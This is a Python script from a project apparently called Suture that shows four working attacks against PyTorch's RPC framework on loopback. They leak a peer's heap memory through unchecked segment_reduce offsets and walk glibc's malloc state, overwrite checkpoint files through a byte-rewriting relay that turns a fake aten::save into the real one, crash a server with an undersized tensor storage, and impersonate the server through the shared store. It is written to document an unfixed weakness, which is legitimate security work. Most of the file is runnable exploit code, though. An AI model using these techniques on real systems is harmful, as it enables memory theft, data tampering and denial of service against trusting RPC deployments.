"""Shows that torch RPC cannot be defended against a hostile peer: four attacks that succeed although our walls are up.

    python tests/integration/hostile/on_rpc.py [REPETITIONS]

Real processes on loopback play every attack. The attacked process has put up the lockdown (nobody reads a pickle) and
closed the sandbox (Landlock) before RPC starts. Before an attack the script checks that both walls refuse what they
were built to refuse. Each attack has a control with one innocent difference, which must not count as a success:

    attack        it succeeds if                                 control
    memory        12 known images are in the bytes read          the client holds other images
    checkpoints   the run's checkpoints do not load any more     the files to write lie outside the run folder
    kill          a signal ended the server                      the tensor's storage is as long as its sizes say
    store         another process than the server answers        the stranger writes a key that nobody reads

Torch's maintainers do not count this as a fault: RPC and its store are for networks in which every process is trusted,
and no fix is planned. This is why sites do not talk RPC to each other, and the script is kept to show it. It is not
a test and pytest does not collect it. If an attack fails with a newer torch, that is good news.

A token between client and server would let the client notice the false server of the last row; its run would still not
take place. The memory read is the main thread's heap: larger tensors lie elsewhere, and the script does not look there.

It needs Linux with Landlock and glibc. Exit code 0: all four succeed and no control does; 1: the last line says which.
"""

import json
import logging
import os
import resource
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from contextlib import contextmanager, suppress
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[3]))
os.environ.update(OMP_NUM_THREADS="1", TP_SOCKET_IFNAME="lo", TORCH_CPP_LOG_LEVEL="FATAL")

import torch
import torch.distributed as dist
from torch.distributed import autograd as dist_autograd
from torch.distributed import rpc
from torch.distributed.rpc import api

from suture.runtime.errors import CheckpointError

# All that is Suture's: the two walls, and the checkpoints that are written over.
from suture.runtime.host import sandbox
from suture.runtime.rpc import lockdown
from suture.runtime.state.checkpoint import Checkpoints

SECONDS = 20.0  # for one call
LIMIT = 90  # seconds for one attack or control
KNOWN_SEED, OTHER_SEED, NUM_IMAGES = 7, 8, 12


def put_up_walls(folder: Path, endpoints=()) -> None:
    """Both walls around this process; ``folder`` stays writable, peers may call ``endpoints``."""
    torch.set_num_threads(1)
    lockdown.close({lockdown.full_name(function): function for function in endpoints})
    sandbox.close(write=[folder])


def start_rpc(name: str, rank: int, peer: str = "", peer_address: str = "") -> str:
    """Starts RPC with a store of its own that knows only ``peer``; returns this process's address."""
    store = dist.HashStore()
    names, addresses = dist.PrefixStore("names", store), dist.PrefixStore("addrs", store)
    if peer:
        addresses.set(peer, peer_address)
        names.set("0", peer)
        names.set("_ALL_WORKER_INFOS", f"{peer}-0,")
    dist_autograd._init(rank)
    options = rpc.TensorPipeRpcBackendOptions(rpc_timeout=SECONDS, _transports=["uv"], _channels=["basic"])
    api._init_rpc_states(rpc.TensorPipeAgent(store, name, rank, None, options, {}, []))
    return addresses.get(name).decode()


def shared_store(port: str) -> dist.TCPStore:
    return dist.TCPStore("127.0.0.1", int(port), is_master=False, wait_for_workers=False)


# The honest processes. Each runs as "on_rpc.py ROLE PORT FOLDER ..." and ends when its standard input does.


def images_of(seed: int) -> list[torch.Tensor]:
    generator = torch.Generator().manual_seed(seed)
    return [torch.rand(3, 64, 64, generator=generator) for _ in range(NUM_IMAGES)]


def client(port: str, folder: str, seed: str) -> None:
    """Holds images in memory; peers may call nothing."""
    images, store = images_of(int(seed)), shared_store(port)
    put_up_walls(Path(folder))
    store.set("address/client", start_rpc("client", 0))
    say({"images": len(images)}, wait=True)


def server(port: str, folder: str) -> None:
    """Has written two checkpoints to its run folder; peers may call `deliver`."""
    for turn in (1, 2):
        Checkpoints(Path(folder)).save(turn, {"top": torch.full((8,), float(turn))})
    store = shared_store(port)
    put_up_walls(Path(folder), [deliver])
    store.set("run_dir", folder)
    store.set("address/server", start_rpc("server", 0))
    say({}, wait=True)


def deliver(batch: torch.Tensor) -> str:
    """Takes what a client has computed on its images and says who took it."""
    return f"the {sys.argv[1]} received {batch.numel()} values"


def sender(port: str, folder: str) -> None:
    """A client that looks the server's address up in the store and sends it a batch."""
    address = shared_store(port).get("address/server").decode()
    put_up_walls(Path(folder))
    start_rpc("sender", 1, "server", address)
    say({"said": rpc.rpc_sync("server", deliver, args=(torch.ones(2, 64, 8, 8),))})


# The attackers: plain torch RPC. They are given the store's port; the folder is only for checking what came of it.


def meet(port: str, peer: str, folder: str, name: str = "stranger") -> None:
    """Connects to ``peer``; fails if one of its walls lets through what it was built to refuse."""
    # Torch's Python refuses to send aten::save, which takes an item of any type. So the attacker declares one for whole
    # numbers, of the same length, and changes its own bytes on their way: see `relay`.
    meet.library = torch.library.Library("aten", "FRAGMENT")
    meet.library.define("save(int it, str filename) -> ()")
    start_rpc(name, 1, peer, relay(shared_store(port).get(f"address/{peer}").decode()))
    inside, outside = Path(folder) / "mark", Path(folder).parent / "mark"
    with suppress(RuntimeError):
        rpc.rpc_sync(peer, os.mkdir, args=(str(inside),))
    with suppress(RuntimeError):
        save(peer, outside)
    if inside.exists() or outside.exists():
        sys.exit("the walls were not up: what follows would show nothing")


def relay(address: str) -> str:
    """A way to ``address`` on which `save` becomes torch's own; returns the address at which it begins."""
    listener = socket.create_server(("127.0.0.1", 0))

    def pump(source: socket.socket, target: socket.socket) -> None:
        while data := source.recv(2**20):
            target.sendall(data.replace(b"save(int it, ", b"save(t item, "))
        target.shutdown(socket.SHUT_WR)

    def serve() -> None:
        near, _ = listener.accept()
        far = socket.create_connection(("127.0.0.1", int(address.rpartition(":")[2])))
        for pair in ((near, far), (far, near)):
            threading.Thread(target=pump, args=pair, daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    return f"uv://127.0.0.1:{listener.getsockname()[1]}"


def save(peer: str, path: Path) -> None:
    api._invoke_rpc_builtin(rpc.get_worker_info(peer), "aten::save", SECONDS, 1, str(path)).wait()


def read_rows(tensor: torch.Tensor, first: int, count: int) -> torch.Tensor:
    """``count`` rows of the client's memory, each as long as one of ``tensor`` (float64), from row ``first`` on.

    The operator adds up segments, whose ends the caller names and nobody checks. A sum that begins at -0.0 and has one
    term is that term. Rows count from where the tensor lies at the client. A tensor without rows lies at address 0.
    """
    options = {"offsets": torch.arange(first, first + count + 1), "axis": 0, "initial": -0.0}
    rows = rpc.rpc_sync("client", torch.segment_reduce, args=(tensor, "sum"), kwargs=options)
    return rows.flatten().view(torch.int64)


def words_at(address: int, count: int) -> list[int]:
    rows = read_rows(torch.zeros(0, 8, dtype=torch.float64), address // 64, count // 8 + 2)
    return rows.tolist()[address % 64 // 8 :]


def main_heap() -> tuple[int, int]:
    """First and last address of the main thread's heap at the client.

    Most pointers near a small tensor that the client received point into the heap of the thread that received it.
    At that heap's start is the address of its state, and glibc links the states of all heaps in a ring.
    """
    top, following, size = 12, 270, 273  # words of glibc's malloc_state, since version 2.26
    votes: Counter[int] = Counter()
    for _ in range(8):
        near = read_rows(torch.zeros(1, 8, dtype=torch.float64), -32, 64).tolist()
        votes.update(word >> 26 << 26 for word in near if word >> 40 == 0x7F and word % 2**26 < 2**20)
    arena = words_at(votes.most_common(1)[0][0], 1)[0]
    for _ in range(256):
        if arena % 2**26 not in (0x20, 0x30):  # where the state of every heap but the main one lies
            break
        arena = words_at(arena, size)[following]
    state = words_at(arena, size + 1)
    last = state[top] + (words_at(state[top], 2)[1] & ~7)
    return last - state[size], last


def read_memory(port: str, folder: str) -> None:
    """The server reads the client's main heap and looks for images in it."""
    meet(port, "client", folder, "server")
    first, last = main_heap()
    page, step, end = torch.zeros(0, 512, dtype=torch.float64), 2**24, min(last, first + 2**30)
    read = b"".join(
        read_rows(page, at // 4096, min(step, end - at) // 4096).numpy().tobytes()
        for at in range(first, end, step)
    )
    found = sum(image.numpy().tobytes() in read for image in images_of(KNOWN_SEED))
    say({"found": found, "said": f"{len(read) / 1e6:.0f} MB read, {found} of {NUM_IMAGES} images found"})


def write_over(port: str, folder: str, where: str) -> None:
    """A stranger learns the run folder from the store, and the names of checkpoints from the source."""
    meet(port, "server", folder)
    run, written = Path(shared_store(port).get("run_dir").decode()), 0
    for turn in range(1, 5):
        path = (run if where == "inside" else run.parent) / f"turn_{turn:06d}.pt"
        before = path.exists() and path.read_bytes()
        with suppress(RuntimeError):  # RPC wants every operator to return something, and this one does not
            save("server", path)
        written += before != (path.exists() and path.read_bytes())
    say({"said": f"{written} of 4 files written"})


def send_short(port: str, folder: str, num_bytes: str) -> None:
    """A stranger sends a tensor that says it is 4 MB long, in a storage of ``num_bytes``."""
    meet(port, "server", folder)
    tensor, said = torch.zeros(2**20), "no answer"
    tensor.untyped_storage().resize_(int(num_bytes))
    with suppress(RuntimeError):  # the connection ends with the server
        said = f"answered with {rpc.rpc_sync('server', torch.neg, args=(tensor,)).numel()} values"
    say({"said": said})


def stranger(port: str, folder: str, key: str) -> None:
    """Plays the server, whose source is public. Writes its address where clients look for the server's."""
    store = shared_store(port)
    put_up_walls(Path(folder), [deliver])
    store.set(key, start_rpc("stranger", 0))
    say({}, wait=True)


def say(result: dict, *, wait: bool = False) -> None:
    print(json.dumps(result), flush=True)
    if wait:
        sys.stdin.read()


ROLES = {f.__name__: f for f in (client, server, sender, read_memory, write_over, send_short, stranger)}


# What starts them and judges.


class Stage:
    """The store on loopback, the run folder and the processes of one attack; all end with it."""

    def __init__(self, root: Path) -> None:
        self.root, self.folder, self.processes = root, root / "run", []
        self.folder.mkdir()
        listener = socket.create_server(("127.0.0.1", 0))
        self._port = listener.getsockname()[1]
        own = {"is_master": True, "wait_for_workers": False, "master_listen_fd": listener.detach()}
        self._store = dist.TCPStore("127.0.0.1", self._port, **own)

    def start(self, role, *arguments: str) -> dict:
        """Starts a process and returns what it says first."""
        command = [sys.executable, __file__, role.__name__, str(self._port), str(self.folder), *arguments]
        log = self.root / f"{role.__name__}.log"
        with log.open("w") as errors:
            pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": errors}
            self.processes.append(subprocess.Popen(command, text=True, cwd=self.root, **pipes))
        if line := self.processes[-1].stdout.readline():
            return json.loads(line)
        raise RuntimeError(f"{role.__name__} said nothing: {' '.join(log.read_text().splitlines()[-1:])}")

    def end_first(self) -> int:
        """Tells the first process to end, if it has not yet, and returns its exit code."""
        self.processes[0].stdin.close()
        return self.processes[0].wait(LIMIT)

    def kill(self) -> None:
        for process in self.processes:
            process.kill()
            process.wait()


@contextmanager
def staged():
    """A stage; afterwards no process and no file of it is left."""
    with tempfile.TemporaryDirectory(prefix="on_rpc-") as root:
        stage = Stage(Path(root))
        timer = threading.Timer(LIMIT, stage.kill)
        timer.start()
        try:
            yield stage
        finally:
            timer.cancel()
            stage.kill()


def memory(stage: Stage, innocent: bool) -> tuple[bool, str]:
    stage.start(client, str(OTHER_SEED if innocent else KNOWN_SEED))
    seen = stage.start(read_memory)
    unharmed = stage.end_first() == 0
    return seen["found"] > 0, f"{seen['said']}; the client {'runs on' if unharmed else 'died'}"


def checkpoints(stage: Stage, innocent: bool) -> tuple[bool, str]:
    stage.start(server)
    seen = stage.start(write_over, "outside" if innocent else "inside")
    try:
        turn, _ = Checkpoints(stage.folder).load_newest()
        return False, f"{seen['said']}; checkpoint {turn} loads"
    except CheckpointError:
        return True, f"{seen['said']}; no checkpoint loads"


def kill(stage: Stage, innocent: bool) -> tuple[bool, str]:
    stage.start(server)
    seen = stage.start(send_short, str(2**22 if innocent else 4))
    code = stage.end_first()
    if -code in (signal.SIGABRT, signal.SIGSEGV, signal.SIGBUS):
        return True, f"{signal.Signals(-code).name} ended the server"
    return False, f"{seen['said']}; the server runs on"


def store(stage: Stage, innocent: bool) -> tuple[bool, str]:
    stage.start(server)
    stage.start(stranger, "address/stranger" if innocent else "address/server")
    said = stage.start(sender)["said"]
    return "stranger received" in said, said


ATTACKS = {memory: "server", checkpoints: "stranger", kill: "stranger", store: "stranger"}


def play(attack, innocent: bool) -> bool:
    """Plays one attack or its control and prints its line; whether it counts as a success."""
    began, success = time.monotonic(), None
    try:
        with staged() as stage:
            success, said = attack(stage, innocent)
    except (RuntimeError, OSError, subprocess.TimeoutExpired) as error:
        said = f"not played: {error}"
    what = "control" if innocent else "attack"
    seconds = time.monotonic() - began
    print(f"{attack.__name__:12} {what:8} {ATTACKS[attack]:9} {seconds:3.0f} s  {said}", flush=True)
    return success is (not innocent)


def main(repetitions: int) -> int:
    logging.disable()  # a checkpoint that is skipped
    signal.signal(signal.SIGTERM, lambda *_: sys.exit("terminated"))  # so that the stage is cleared
    print(f"{'attack':12} {'':8} {'by':9} {'':5}  came of it")
    wrong = []
    for attack in ATTACKS:
        if not play(attack, innocent=True):
            wrong.append(f"the control of {attack.__name__!r} did not come to nothing")
        if sum(play(attack, innocent=False) for _ in range(repetitions)) < repetitions:
            wrong.append(f"the attack {attack.__name__!r} did not succeed")
    print("; ".join(wrong) or "All four attacks succeed, and no control does.")
    return 1 if wrong else 0


if __name__ == "__main__":
    if sys.argv[1:2] and sys.argv[1] in ROLES:
        signal.alarm(LIMIT)  # no process outlives the script by more
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
        ROLES[sys.argv[1]](*sys.argv[2:])
        os._exit(0)
    sys.exit(main(int(sys.argv[1]) if sys.argv[1:] else 1))
